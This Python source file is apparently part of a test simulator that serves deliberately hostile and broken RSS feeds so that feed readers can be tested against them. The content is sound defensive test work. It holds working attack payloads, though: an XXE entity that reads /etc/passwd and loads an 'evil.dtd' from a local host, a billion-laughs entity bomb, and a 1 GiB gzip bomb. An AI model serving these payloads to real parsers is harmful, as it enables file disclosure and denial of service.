"""Hostile and broken outlets: each really does its bad thing over HTTP.

Streaming handlers write small chunks, pace themselves, and stop as soon as the client goes
away or the server stops, so they cost neither memory nor CPU while a client dawdles.
"""

from __future__ import annotations

import asyncio
import struct
import threading
import zlib
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

from aiohttp import web

from . import render

if TYPE_CHECKING:
    from .newsroom import Outlet
    from .server import SimulatorServer

BOMB_SIZE = 1 << 30  # inflated size of the gzip bomb: 1 GiB of zeros
HUGE_SIZE = 1 << 30  # declared Content-Length of the "huge" feed
_CHUNK = 64 * 1024
_PAUSE = 0.005  # between streamed chunks: at most ~12 MB/s per connection

_bomb: bytes | None = None
_bomb_lock = threading.Lock()


def gzip_bomb() -> bytes:
    """~1 MB of gzip that inflates to ``BOMB_SIZE`` zero bytes; built in well under a second.

    After a full flush deflate restarts from scratch, so the compressed form of each 1 MiB of
    zeros is the same bytes: we compress one block and repeat it.
    """
    global _bomb
    with _bomb_lock:
        if _bomb is None:
            chunk = bytes(1 << 20)
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            co.compress(chunk)
            co.flush(zlib.Z_FULL_FLUSH)
            block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
            final = co.flush(zlib.Z_FINISH)
            n = BOMB_SIZE >> 20
            crc = 0
            for _ in range(n):
                crc = zlib.crc32(chunk, crc)
            header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03"
            _bomb = header + block * n + final + struct.pack("<II", crc, BOMB_SIZE & 0xFFFFFFFF)
        return _bomb


def _xml_head(title: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>http://example.invalid/</link><description>test</description>\n"
    )


async def _stream(srv: SimulatorServer, resp: web.StreamResponse, chunk: bytes, limit: int | None) -> None:
    sent = 0
    try:
        while not srv.stopping and (limit is None or sent < limit):
            piece = chunk if limit is None else chunk[: limit - sent]
            await resp.write(piece)
            sent += len(piece)
            await asyncio.sleep(_PAUSE)
    except (ConnectionError, RuntimeError):
        pass  # client went away


def _feed(srv: SimulatorServer, outlet: Outlet, **kw: object) -> bytes:
    nr = srv.newsroom
    items = nr.visible_items(outlet, srv.now())
    return render.feed(nr, outlet, items, **kw).body  # type: ignore[arg-type]


async def handle(srv: SimulatorServer, outlet: Outlet, request: web.Request) -> web.StreamResponse:
    code = outlet.hostile
    path = request.path
    rss = "application/rss+xml; charset=utf-8"
    if code == "redirect_loop":
        target = "/feed-b.xml" if path == outlet.feed_path else outlet.feed_path
        return web.Response(status=302, headers={"Location": target})
    if path != outlet.feed_path:
        return web.Response(status=404, text="not found")
    if code == "malformed":
        text = _feed(srv, outlet).decode()
        text = text.replace("</title>", "", 3).replace("</item>", "<item>", 2)
        text = text.replace("<description>", "<description>\x01\x0b & <b>broken", 2)
        return web.Response(body=text.encode()[: len(text) - 40], headers={"Content-Type": rss})
    if code == "xxe":
        body = (
            '<?xml version="1.0" encoding="utf-8"?>\n'
            "<!DOCTYPE rss [\n"
            '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
            '  <!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd">\n'
            "  %remote;\n]>\n"
            '<rss version="2.0"><channel><title>XXE &xxe;</title><link>http://example.invalid/</link>'
            "<description>&xxe;</description><item><title>Secret &xxe;</title>"
            "<link>http://example.invalid/1</link><description>&xxe;</description></item></channel></rss>\n"
        )
        return web.Response(body=body.encode(), headers={"Content-Type": rss})
    if code == "entity_bomb":
        ents = ['  <!ENTITY lol0 "lol">']
        ents += [f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
        body = (
            '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [\n' + "\n".join(ents) + "\n]>\n"
            '<rss version="2.0"><channel><title>&lol9;</title><link>http://example.invalid/</link>'
            "<description>&lol9;</description><item><title>&lol9;</title></item></channel></rss>\n"
        )
        return web.Response(body=body.encode(), headers={"Content-Type": rss})
    if code == "gzip_bomb":
        bomb = await asyncio.get_running_loop().run_in_executor(None, gzip_bomb)
        resp = web.StreamResponse(headers={"Content-Type": rss, "Content-Encoding": "gzip"})
        resp.content_length = len(bomb)
        await resp.prepare(request)
        try:
            for i in range(0, len(bomb), _CHUNK):
                if srv.stopping:
                    break
                await resp.write(bomb[i : i + _CHUNK])
        except (ConnectionError, RuntimeError):
            pass
        return resp
    if code == "endless":
        resp = web.StreamResponse(headers={"Content-Type": rss})
        resp.enable_chunked_encoding()
        await resp.prepare(request)
        try:
            await resp.write(_xml_head("Endless").encode())
        except (ConnectionError, RuntimeError):
            return resp
        item = b"<item><title>again</title><link>http://example.invalid/x</link></item>\n"
        await _stream(srv, resp, item * (_CHUNK // len(item)), None)
        return resp
    if code == "huge":
        resp = web.StreamResponse(headers={"Content-Type": rss})
        resp.content_length = HUGE_SIZE
        await resp.prepare(request)
        head = _xml_head("Huge").encode()
        try:
            await resp.write(head)
        except (ConnectionError, RuntimeError):
            return resp
        await _stream(srv, resp, b" " * _CHUNK, HUGE_SIZE - len(head))
        return resp
    if code == "slow":
        body = _feed(srv, outlet)[:4096]
        resp = web.StreamResponse(headers={"Content-Type": rss})
        resp.content_length = len(body)
        await resp.prepare(request)
        try:
            for i in range(len(body)):
                if srv.stopping:
                    break
                await resp.write(body[i : i + 1])
                await srv.sleep(1.0)
        except (ConnectionError, RuntimeError):
            pass
        return resp
    if code == "html_error":
        page = (
            "<!DOCTYPE html><html><head><title>Service temporarily unavailable</title></head>"
            "<body><h1>Service temporarily unavailable</h1><p>Please try again later.</p></body></html>"
        )
        return web.Response(text=page, content_type="text/html")
    if code == "wrong_encoding":
        body = _feed(srv, outlet).decode().encode("windows-1251", "replace")
        return web.Response(body=body, headers={"Content-Type": rss})
    if code == "dup_guid":
        srv.fetches[outlet.index] = n = srv.fetches.get(outlet.index, 0) + 1
        return web.Response(body=_feed(srv, outlet, tag=f" — {n}"), headers={"Content-Type": rss})
    if code == "future_dates":
        return web.Response(body=_feed(srv, outlet, shift=3 * 365 * 86400.0), headers={"Content-Type": rss})
    if code in ("disappears", "gone"):
        srv.fetches[outlet.index] = n = srv.fetches.get(outlet.index, 0) + 1
        if n == 1:
            return web.Response(body=_feed(srv, outlet), headers={"Content-Type": rss})
        return web.Response(status=404 if code == "disappears" else 410, text="gone")
    if code == "rate_limited":
        return web.Response(status=429, text="Too Many Requests", headers={"Retry-After": "120"})
    if code == "unavailable":
        when = datetime.now(UTC) + timedelta(seconds=120)
        return web.Response(
            status=503,
            text="Service Unavailable",
            headers={"Retry-After": render.http_date(when.timestamp())},
        )
    raise AssertionError(f"unknown hostile code {code}")
